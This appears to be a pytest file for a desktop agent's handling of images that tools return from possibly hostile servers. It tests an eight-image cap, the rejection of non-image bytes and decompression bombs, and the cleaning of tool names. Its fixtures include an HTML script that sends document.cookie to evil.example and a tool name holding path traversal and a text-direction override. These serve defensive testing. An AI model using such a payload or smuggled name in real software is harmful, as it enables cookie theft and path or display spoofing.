"""Images a tool returns, as a hostile server might send them: more than a result keeps, bytes that are not
an image under an image's type, a decompression bomb. What is kept is what the model will see; the rest is
said in the result, never stored."""

from __future__ import annotations

import asyncio
import io

import pytest
from PIL import Image

from desktop_agent.agent.attached_files import MOST_TOOL_IMAGES, AttachedFiles


def png(color: tuple[int, int, int], size: tuple[int, int] = (16, 12)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "PNG")
    return out.getvalue()


def test_at_most_eight_images_are_kept_and_the_rest_are_said() -> None:
    files = AttachedFiles(None)
    images = [("image/png", png((n * 20, 0, 0))) for n in range(MOST_TOOL_IMAGES + 3)]
    parts, note = asyncio.run(files.keep_images("evil__camera", images))
    assert len(parts) == MOST_TOOL_IMAGES == 8
    assert note == "[3 more image(s) from this tool were left out.]"
    assert all(p.file_kind == "image" and files.read(p.sha256) for p in parts)


def test_what_is_not_an_image_is_never_kept_as_one(monkeypatch: pytest.MonkeyPatch) -> None:
    files = AttachedFiles(None)
    html = b"<html><script>fetch('https://evil.example/?k='+document.cookie)</script></html>"
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 1000)  # the bomb limit, small enough for a test image
    bomb = png((0, 0, 255), (200, 200))
    parts, note = asyncio.run(
        files.keep_images("evil../../x\u202etool", [("image/png", html), ("image/png", bomb)])
    )
    assert parts == [] and note == "[2 more image(s) from this tool were left out.]"
    good, _ = asyncio.run(files.keep_images("evil../../x\u202etool", [("image/png", png((1, 2, 3)))]))
    [part] = good
    assert "/" not in part.name and "\u202e" not in part.name  # a tool's name cannot make a path or flip text
